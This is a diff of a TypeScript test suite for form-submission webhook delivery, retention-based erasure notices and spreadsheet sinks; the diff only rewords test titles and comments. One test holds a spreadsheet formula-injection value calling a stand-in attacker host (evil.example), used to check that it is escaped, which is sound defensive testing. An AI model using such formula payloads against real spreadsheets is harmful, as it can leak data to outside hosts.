@@ -67,7 +67,7 @@ const down = () =>
 const rows = (table: string) => database.sql`select * from ${database.sql(table)}`;
 
 describe('a submission', () => {
-  test('reaches the webhook whole, with its id, once', async () => {
+  test('reaches the webhook complete, with its id, once', async () => {
     const { submissionId } = (await send()).data;
     await work();
     await work();
@@ -89,7 +89,7 @@ describe('a submission', () => {
     expect(await rows('deliveries')).toMatchObject([{ delivered_at: now, body_sealed: null }]);
   });
 
-  test('nothing is lost and nothing doubled by id while the webhook is down and comes back', async () => {
+  test('is neither lost nor duplicated by id when the webhook goes down and recovers', async () => {
     api.sinks.answer = down;
     const sent = new Set<string>();
     for (let place = 0; place < 8; place += 1) {
@@ -98,7 +98,7 @@ describe('a submission', () => {
       await work();
     }
     expect(api.sinks.arrived).toEqual([]);
-    // It comes back, but every second answer is lost after the message was taken.
+    // It recovers, but every second response is lost after the message was accepted.
     let tries = 0;
     api.sinks.answer = (message) => {
       tries += 1;
@@ -118,7 +118,7 @@ describe('a submission', () => {
     expect(await rows('tasks')).toEqual([]);
   });
 
-  test('a webhook that never answers is given up for an operator to see, and the submission stays', async () => {
+  test('is a failed task for an operator when the webhook never responds, and is kept', async () => {
     api.sinks.answer = down;
     await send();
     for (let hour = 0; hour <= TRIES_AT_MOST; hour += 1) {
@@ -132,7 +132,7 @@ describe('a submission', () => {
     expect(await rows('form_submissions')).toHaveLength(1);
   });
 
-  test('what was erased meanwhile is not sent', async () => {
+  test('that was erased in the meantime is not sent', async () => {
     await send();
     await database.sql`delete from form_submissions`;
     await work();
@@ -140,7 +140,7 @@ describe('a submission', () => {
     expect(await rows('tasks')).toEqual([]);
   });
 
-  test('whose days are over is erased here, and who has got it is told', async () => {
+  test('is erased after its retention period, and its receivers are notified', async () => {
     const { submissionId } = (await send()).data;
     await send({ values: { ...values, message: 'not passed on yet' } });
     await database.sql`delete from tasks where subject in (
@@ -158,7 +158,7 @@ describe('a submission', () => {
     expect(await rows('deliveries')).toEqual([]);
   });
 
-  test('who may have got it, though the answer was lost, is told too; who was never asked is not', async () => {
+  test('is reported as erased also to a receiver whose response was lost, but not to one that was never called', async () => {
     const { submissionId } = (await send()).data;
     api.sinks.answer = (message) => {
       api.sinks.arrived.push({ ...message, sink: 'webhook' });
@@ -176,12 +176,12 @@ describe('a submission', () => {
     ]);
   });
 
-  test('whose last moment comes while the old are erased goes with its notice, or stays', async () => {
+  test('that expires during the purge is deleted with its notice, or kept', async () => {
     await send();
     await work();
     const last = hours(365 * 24).getTime();
     let asked = 0;
-    // A clock that passes the moment between two looks at it.
+    // A clock that passes the moment between two reads.
     const passing = () => new Date(last - 1 + asked++);
     await purgeForms({ ...api.services, now: passing });
     api.setNow(hours(366 * 24));
@@ -193,7 +193,7 @@ describe('a submission', () => {
     ]);
   });
 
-  test('that is on its way while it is erased is followed by a notice, though one went before it', async () => {
+  test('that is erased during delivery is followed by a second notice', async () => {
     const { submissionId } = (await send()).data;
     const { webhook } = api.sinks.all;
     let isFirst = true;
@@ -219,7 +219,7 @@ describe('a submission', () => {
     expect(await rows('tasks')).toEqual([]);
   });
 
-  test('so it is when an account goes', async () => {
+  test('of a deleted account gets the same notices', async () => {
     const browser = createTestBrowser(api);
     await signIn(api, browser, '9812345210');
     const body = { version: 1, values, consents: ['answer'] };
@@ -241,18 +241,18 @@ describe('without an address', () => {
     api = await createTestApi(database.sql, { sinks: {} });
   });
 
-  test('a form is stored and nothing is noted for anybody', async () => {
+  test('a form is stored and no delivery is enqueued', async () => {
     expect((await send()).status).toBe(201);
     expect([...(await rows('deliveries')), ...(await rows('tasks'))]).toEqual([]);
   });
 
-  test('a spreadsheet says that it is closed, and keeps nothing', async () => {
+  test('a spreadsheet is closed, and stores nothing', async () => {
     const answer = await lead();
     expect([answer.status, answer.problem.code]).toEqual([503, 'form/closed']);
     expect(await rows('form_submissions')).toEqual([]);
   });
 
-  test('an address that was taken away later is told to the operator', async () => {
+  test('an address that was removed later is reported to the operator', async () => {
     const other = await createTestApi(database.sql);
     await createTestBrowser(other).call(submitForm, {
       params: { formId: fixedForms.contact },
@@ -265,7 +265,7 @@ describe('without an address', () => {
 });
 
 describe('a spreadsheet', () => {
-  test('takes a row by the rules of its form, with or without a version', async () => {
+  test('accepts a row by the rules of its form, with or without a version', async () => {
     expect((await lead()).status).toBe(201);
     expect((await lead({ version: 1 })).status).toBe(201);
     expect((await lead({ version: 7 })).problem.code).toBe('form/changed');
@@ -276,7 +276,7 @@ describe('a spreadsheet', () => {
     expect(api.sinks.arrived.map(({ sink }) => sink)).toEqual(['sheet-leads', 'sheet-leads']);
   });
 
-  test('gets no formula to run', async () => {
+  test('receives no formulas', async () => {
     const remark = '=IMPORTXML("https://evil.example/","//a")';
     const answer = await createTestBrowser(api).call(sendSheetRow, {
       params: { name: 'feedback' },
@@ -287,7 +287,7 @@ describe('a spreadsheet', () => {
     expect(api.sinks.arrived[0]?.payload.values).toMatchObject({ remark: `'${remark}` });
   });
 
-  test('of another name is not there', async () => {
+  test('of another name does not exist', async () => {
     const answer = await createTestBrowser(api).call(sendSheetRow, {
       params: { name: 'salaries' },
       body: { values: {} },
